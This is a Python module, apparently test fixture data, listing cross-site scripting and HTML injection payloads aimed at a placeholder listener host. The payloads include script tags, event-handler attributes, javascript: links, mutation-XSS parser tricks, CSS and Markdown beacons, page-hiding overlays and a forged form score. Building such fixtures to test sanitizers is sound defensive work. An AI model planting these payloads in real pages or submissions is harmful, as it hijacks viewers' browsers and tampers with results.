"""Pieces with which a submission tries to act in the browser of whoever looks at it; {host} is a listener."""

from __future__ import annotations

SCRIPT = "fetch('{host}/ran');document.title='taken over'"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{script}\"><script>{script}</script></svg>"
PIECES = [
    "<script>{script}</script>",
    "<script src='{host}/a.js'></script>",
    "<img src=x onerror=\"{script}\">",
    "<img src='{host}/pixel.png'>",
    "<img srcset='{host}/pixel2.png 1x'>",
    SVG,
    "<svg><image href='{host}/in-svg.png'/></svg>",
    "<details open ontoggle=\"{script}\">x</details>",
    "<iframe srcdoc=\"<script>{script}</script>\"></iframe>",
    "<iframe src='{host}/frame'></iframe>",
    "<object data='{host}/object'></object>",
    "<embed src='{host}/embed'>",
    "<base href='{host}/'>",
    "<meta http-equiv='refresh' content='0;url={host}/refresh'>",
    "<link rel='stylesheet' href='{host}/style.css'>",
    "<style>@import url('{host}/import.css'); input,textarea {{ display: none !important }}</style>",
    "<div style=\"background:url('{host}/background.png')\">x</div>",
    "<div style=\"background:u\\72l('{host}/escaped.png')\">x</div>",
    "<div style=\"position:fixed;inset:0;background:white;z-index:99999\">you see nothing</div>",
    "<div style=\"margin-top:-5000px;height:10000px\">x</div>",
    "<video src='{host}/video' autoplay></video>",
    "<audio src='{host}/audio' autoplay onloadstart=\"{script}\"></audio>",
    "<input autofocus onfocus=\"{script}\">",
    "<form id='x' class='score'><input name='score' value='100'><button formaction='{host}/form'>x</button></form>",
    "<a href=\"javascript:{script}\" id='bait'>bait</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=\"{script}\">",
    "<template><script>{script}</script></template>",
    "<marquee onstart=\"{script}\">x</marquee>",
    "<body onload=\"{script}\">",
    "<title>taken over</title>",
    "<textarea></textarea><script>{script}</script>",
    "<!--><script>{script}</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror={script}>\"></noscript>",
    "![picture]({host}/markdown.png)",
    "![picture][reference]\n\n[reference]: {host}/reference.png",
    "[bait](javascript:{script})",
    "$\\href{{javascript:{script}}}{{x}}$ and $\\style{{background:url({host}/tex.png)}}{{x}}$",
    "```\n</code></pre><script>{script}</script>\n```",
]


def pieces(host: str) -> list[str]:
    """All pieces, aimed at a listener."""
    script = SCRIPT.format(host=host)
    return [piece.format(host=host, script=script.replace('"', "'")) for piece in PIECES]
